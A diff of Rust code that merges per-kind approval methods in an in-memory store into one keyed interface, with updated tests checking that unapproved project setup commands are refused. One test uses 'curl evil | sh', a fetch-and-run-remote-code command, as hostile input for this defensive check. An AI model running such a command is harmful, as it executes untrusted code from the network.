@@ -8,29 +8,24 @@ use crate::errors::StorageError;
 
 #[async_trait]
 impl Approvals for Memory {
-    async fn approved_setup(&self, _: &str) -> Result<Option<Approved>, StorageError> {
-        let plan = self.approved_setup.lock().unwrap().clone();
-        Ok(plan.map(|plan| Approved { plan, by: "ada".to_owned(), at: 1 }))
+    async fn find_approval(&self, _: &str, kind: ApprovalKind) -> Result<Option<Approved<Value>>, StorageError> {
+        let content = self.approvals.lock().unwrap().get(&kind).cloned();
+        Ok(content.map(|content| Approved { content, by: "ada".to_owned(), at: 1 }))
     }
 
-    async fn approve_setup(&self, _: &str, plan: Option<&Plan>, _: &crate::actor::Actor, _: Vec<Draft>) -> Result<(), StorageError> {
-        *self.approved_setup.lock().unwrap() = plan.cloned();
-        Ok(())
-    }
-
-    async fn approved_services(&self, _: &str) -> Result<Option<ApprovedServices>, StorageError> {
-        let services = self.approved_services.lock().unwrap().clone();
-        Ok(services.map(|services| ApprovedServices { services, by: "ada".to_owned(), at: 1 }))
-    }
-
-    async fn approve_services(
+    async fn set_approval(
         &self,
         _: &str,
-        services: Option<&Services>,
+        kind: ApprovalKind,
+        approving: Option<Approving>,
         _: &crate::actor::Actor,
         _: Vec<Draft>,
     ) -> Result<(), StorageError> {
-        *self.approved_services.lock().unwrap() = services.cloned();
+        let mut approvals = self.approvals.lock().unwrap();
+        match approving {
+            Some(approving) => approvals.insert(kind, approving.content),
+            None => approvals.remove(&kind),
+        };
         Ok(())
     }
 }
@@ -49,7 +44,7 @@ fn project(does: fn(&Path), ending: Result<Ended, EngineError>) -> Bench {
     let bench = bench_doing(does, ending);
     fs::write(bench.workspace().join("a.lock"), "1").unwrap();
     fs::write(bench.workspace().join("secret.js"), "the source").unwrap();
-    *bench.memory.approved_setup.lock().unwrap() = Some(plan());
+    bench.memory.approvals.lock().unwrap().insert(ApprovalKind::Setup, json!(plan()));
     bench
 }
 
@@ -160,7 +155,7 @@ async fn a_setup_that_nobody_approved_is_not_executed() {
     let wanted = |setup: &str| Wanted::new("p".to_owned(), None, json!({ "setup": setup, "setup-files": ["*.lock"] }));
     let told = reason(bench.set_up_by("r", 1, wanted("curl evil | sh")).await);
     assert!(told.contains("`curl evil | sh`") && told.contains("baton project setup approve"), "{told}");
-    *bench.memory.approved_setup.lock().unwrap() = None;
+    bench.memory.approvals.lock().unwrap().clear();
     assert!(reason(bench.set_up_by("r", 2, wanted("npm ci")).await).contains("which is not approved"));
     let none = set_up(bench.set_up("r", 3, None).await);
     assert_eq!((none.state.as_str(), none.command, bench.executed()), ("none", None, 0));
